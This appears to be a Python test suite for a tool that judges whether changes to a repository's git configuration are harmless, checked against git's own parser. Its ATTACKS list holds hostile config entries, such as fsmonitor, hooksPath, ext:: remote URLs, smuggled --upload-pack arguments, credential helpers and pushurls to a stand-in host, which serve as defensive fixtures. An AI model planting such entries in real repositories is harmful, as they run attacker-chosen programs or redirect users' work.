"""git's own files as data: which changes of a configuration are harmless, where submodules are."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import settings as settings_of_test
from hypothesis import strategies as st

from coi.workspace.gitconfig import (
    further,
    gitdir,
    gitlinks,
    harmless,
    settings,
    within,
)

CLONED = b"""[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
\tlogallrefupdates = true
[remote "origin"]
\turl = https://example.org/a/b.git
\tfetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
\tremote = origin
\tmerge = refs/heads/main
"""
TRACKS = b'[branch "topic/x"]\n\tremote = origin\n\tmerge = refs/heads/topic/x\n'

# Each one of them runs a program of its writer's choice, or sends the user's work elsewhere.
ATTACKS = [
    b"[core]\n\tfsmonitor = touch /tmp/pwned\n",
    b"[core]\n\thooksPath = evil\n",
    b"[core]\n\tsshCommand = evil\n",
    b"[core]\n\tpager = evil\n",
    b"[core]\n\teditor = evil\n",
    b"[core]\n\tworktree = ..\n",
    b"[core]\n\trepositoryformatversion = 0\n\tgitProxy = evil\n",
    b"[CORE]\n\tFSMonitor = evil\n",
    b"[core] fsmonitor = evil\n",
    b'[filter "x"]\n\tclean = evil\n',
    b'[diff "x"]\n\ttextconv = evil\n',
    b"[alias]\n\tstatus = !evil\n",
    b"[include]\n\tpath = ../evil\n",
    b'[includeIf "gitdir:/"]\n\tpath = evil\n',
    b"[credential]\n\thelper = !evil\n",
    b"[gpg]\n\tprogram = evil\n",
    b'[remote "o"]\n\turl = ext::sh -c evil\n',
    b'[remote "o"]\n\turl = --upload-pack=evil\n',
    b'[remote "o"]\n\turl = https://a.example/b\n\tuploadpack = evil\n',
    b'[remote "o"]\n\tpushurl = https://evil.example/b\n',
    b'[branch "main"]\n\tremote = https://evil.example/b\n',
    b'[branch "main"]\n\tpushRemote = evil\n',
    b'[branch "main"]\n\tmerge = -x\n',
    b'[url "ext::sh -c evil "]\n\tinsteadOf = https://\n',
    b"[extensions]\n\tworktreeConfig = true\n",
    b"[user]\n\tsigningKey = key\n",
    b'[branch "a"]\n\tremote = origin \\\n[core]\n\tfsmonitor = evil\n',
    b'[branch "a\\"]\n\tremote = ."]\n[core]\n\tfsmonitor = evil\n',
    b'[branch "a"]\n\tmerge = "refs/heads/a"\n',
    b'[branch "a"]\r\n\tremote = origin\r\n[core]\r\n\tfsmonitor = evil\r\n',
    b"[core]\n\tbare = false\x00\n",
    b"\xff\xfe[core]\n",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_runs_or_redirects_is_never_harmless(attack: bytes) -> None:
    assert not harmless(None, attack)
    assert not harmless(CLONED, CLONED + attack)
    assert not harmless(CLONED, attack + CLONED)
    assert not harmless(CLONED, CLONED.replace(b"[remote", attack + b"[remote", 1))


def test_what_people_do_on_the_host_meanwhile_is_harmless() -> None:
    assert harmless(CLONED, CLONED)
    assert harmless(None, CLONED)
    assert harmless(CLONED, CLONED + TRACKS)
    assert harmless(CLONED + TRACKS, CLONED), "git branch -d"
    code = TRACKS + b"\tvscode-merge-base = origin/main\n"
    assert harmless(CLONED, CLONED + code)


def test_a_branch_of_a_remote_that_is_new_is_not() -> None:
    other = TRACKS.replace(b"origin", b"evil")
    assert not harmless(CLONED, CLONED + other)
    remote = b'[remote "evil"]\n\turl = https://evil.example/x\n'
    assert not harmless(CLONED, CLONED + remote)
    assert not harmless(CLONED, CLONED.replace(b"example.org", b"evil.example"))
    assert not harmless(CLONED, CLONED.replace(b"bare = false\n", b""))


def test_a_configuration_that_cannot_be_read_changes_harmfully() -> None:
    quoted = CLONED + b'[core]\n\tpager = "less -R"\n'
    assert settings(quoted) is None
    assert not harmless(quoted, quoted + TRACKS)


def test_git_reads_them_the_same_way(tmp_path: Path) -> None:
    """What is taken for plain is what git itself makes of it."""
    file = tmp_path / "config"
    for text in (CLONED, CLONED + TRACKS, b"[user]\n\tname = A B\n# x\n\n ; y\n"):
        file.write_bytes(text)
        out = subprocess.run(
            ["git", "config", "-z", "--list", "--file", file], capture_output=True, check=True
        ).stdout.decode()
        git = [tuple(row.split("\n", 1)) for row in out.split("\0") if row]
        found = settings(text)
        assert found is not None
        mine = [
            (".".join(part for part in (s.section, s.subsection, s.key) if part), s.value)
            for s in found
        ]
        assert mine == git


PIECES = st.sampled_from(
    [
        "[core]", "[branch \"x\"]", "[include]", "\n", "\t", " ", "remote = origin", "merge = ",
        "refs/heads/x", "fsmonitor = evil", "\\", '"', "#", ";", "=", "\r", "path = evil", "[", "]",
        'hookspath="evil"', "bare", "\x0b",
    ]
)  # fmt: skip


@given(st.lists(PIECES, max_size=24))
def test_nothing_that_git_obeys_passes_for_a_branch(pieces: list[str]) -> None:
    """git is asked what it would obey, of whatever coi takes for harmless."""
    text = CLONED + "".join(pieces).encode()
    if not harmless(CLONED, text):
        return
    done = subprocess.run(
        ["git", "config", "-z", "--list", "--file", "-"],
        input=text, capture_output=True, check=False, env={"PATH": os.environ["PATH"]},
    )  # fmt: skip
    if done.returncode:
        return  # git refuses it as a whole
    keys = {row.split("\n")[0] for row in done.stdout.decode().split("\0") if row}
    plain = {row.split("\n")[0] for row in _listed(CLONED)}
    assert {key for key in keys - plain if not key.startswith("branch.")} == set()


def _listed(text: bytes) -> list[str]:
    done = subprocess.run(
        ["git", "config", "-z", "--list", "--file", "-"],
        input=text,
        capture_output=True,
        check=True,
    )
    return [row for row in done.stdout.decode().split("\0") if row]


@pytest.mark.parametrize("space", ["\x85", "\xa0", "\u2003", "\u2028", "\u3000"])
def test_another_directory_of_hooks_is_no_harmless_change(space: str) -> None:
    """To git these are letters: a value that ends with one names another directory."""
    before = b"[core]\n\thooksPath = .hooks\n"
    assert harmless(before, before + b" \n")
    assert not harmless(before, f"[core]\n\thooksPath = .hooks{space}\n".encode())


@given(st.binary(max_size=200))
@example(CLONED)
def test_any_bytes_are_read(data: bytes) -> None:
    settings(data)
    harmless(CLONED, data)
    harmless(None, data)
    list(further(data))
    gitdir(data)
    gitlinks(data)
    gitlinks(b"DIRC" + data)


# Pieces of a configuration whose meaning depends on what stands around them.
_PIECES = [
    "[core]", "[CORE]", "[include]", '[includeIf "x"]', '[core "s"]', '[core "a\\"]b"]', "[x.core]",
    "\n", "\r\n", " ", "\t", "hooksPath", "hookspath", "worktree", "path", "=", " = ", "evil",
    '"', "\\", '\\"', "\\\\", "\\n", "\\\n", "#", ";", "# x\n", "é", "\x0b", "\x0c", "\x85",
    "\u2028", "\u2003", "\ufeff", "-", ".", "1", "]", "[",
]  # fmt: skip
_LINE = st.builds(
    "{}\n\t{} = {}\n".format,
    st.sampled_from(["[core]", "[include]", "[ Core ]", '[includeIf "x"]']),
    st.sampled_from(["hooksPath", "path", "worktree"]),
    st.lists(st.sampled_from(_PIECES[7:]), max_size=6).map("".join),
)
_CONFIG = st.lists(_LINE | st.sampled_from(_PIECES), max_size=8).map("".join)


def _as_git_reads_it(text: bytes) -> list[tuple[str, str]] | None:
    """Keys and values; None where git takes nothing of it."""
    done = subprocess.run(
        ["git", "config", "-z", "--list", "--file", "-"],
        input=text, capture_output=True, check=False,
    )  # fmt: skip
    if done.returncode:
        return None
    rows = done.stdout.decode("utf-8", "surrogateescape").split("\0")[:-1]
    return [(row.partition("\n")[0], row.partition("\n")[2]) for row in rows if "\n" in row]


@settings_of_test(max_examples=150, deadline=None)
@given(_CONFIG)
@example("[core]\n\thooksPath = a\u2028b\n").via("Python's end of a line, and not git's")
@example("[core]\n\thooksPath = a\x0bb\n").via("Python's white space, and not git's")
@example('[core]\n\thooksPath = a"b c"d\n').via("quotes in the middle")
@example('[core]\n\thooksPath = "a\\"b"\n').via("a quote in quotes")
@example("[core]\n\thooksPath = a\\\n  b\n").via("a line that goes on")
@example("[core]\n\thooksPath = a \\\n# b\n").via("a comment after a line that goes on")
@example("\ufeff[core]\n\thooksPath = a\n").via("a mark before")
@example("[core]\n\thooksPath = a\x85\n").via("Python's white space at the end")
@example('[core] hooksPath = "a" [x]\n').via("behind a section")
def test_what_git_obeys_is_found(text: str) -> None:
    """Differential: for each path that git itself reads there is one that coi protects, and
    what coi takes for a plain configuration means to git what it means to coi."""
    data = text.encode()
    rows = _as_git_reads_it(data)
    if rows is None:
        return
    wanted = {
        ("hooks" if key == "core.hookspath" else "worktree", value)
        for key, value in rows
        if key in ("core.hookspath", "core.worktree")
    } | {
        ("include", value)
        for key, value in rows
        if key == "include.path" or (key.startswith("includeif.") and key.endswith(".path"))
    }
    assert wanted <= set(further(data))
    plain = settings(data)
    if plain is not None:
        names = [
            (".".join(filter(None, (row.section, row.subsection, row.key))), row.value)
            for row in plain
        ]
        assert names == rows


@given(st.text("ab/.\0~", max_size=12), st.text("ab/.~\0", max_size=12))
def test_what_is_within_never_leads_out(base: str, path: str) -> None:
    base = "/".join(part for part in base.replace("\0", "").split("/") if part.strip("."))
    found = within(base, path)
    if found is not None:
        assert not found.startswith("/")
        assert not {"", ".", ".."} & set(found.split("/"))
        assert os.path.normpath(f"/w/{found}") == os.path.normpath(f"/w/{base}/{path}")


def test_what_a_configuration_names() -> None:
    text = b'[core]\n\thooksPath = ".hooks" # x\n[include]\n\tpath = ../shared\n'
    text += b"[Core] worktree=../../s\n"
    assert list(further(text)) == [
        ("hooks", ".hooks"),
        ("include", "../shared"),
        ("worktree", "../../s"),
    ]
    assert gitdir(b"gitdir: ../.git/modules/a\n") == "../.git/modules/a"
    assert gitdir(b"elsewhere") is None


@pytest.mark.parametrize("object_format", ["sha1", "sha256"])
def test_the_submodules_of_an_index(tmp_path: Path, object_format: str) -> None:
    def git(*args: str, cwd: Path = tmp_path) -> None:
        identity = ("-c", "user.name=a", "-c", "user.email=a@example")
        subprocess.run(["git", *identity, *args], cwd=cwd, check=True, capture_output=True)

    (tmp_path / "w").mkdir()
    work = tmp_path / "w"
    git("init", "-q", f"--object-format={object_format}", ".", cwd=work)
    (work / "a file").write_text("x")
    long = "deep/" * 20 + "ä"
    for name in ("sub", long):
        inner = work / name
        inner.mkdir(parents=True)
        git("init", "-q", f"--object-format={object_format}", ".", cwd=inner)
        git("commit", "-q", "--allow-empty", "-m", "x", cwd=inner)
    git("add", "-A", cwd=work)
    index = (work / ".git" / "index").read_bytes()
    assert set(gitlinks(index)) == {"sub", long}
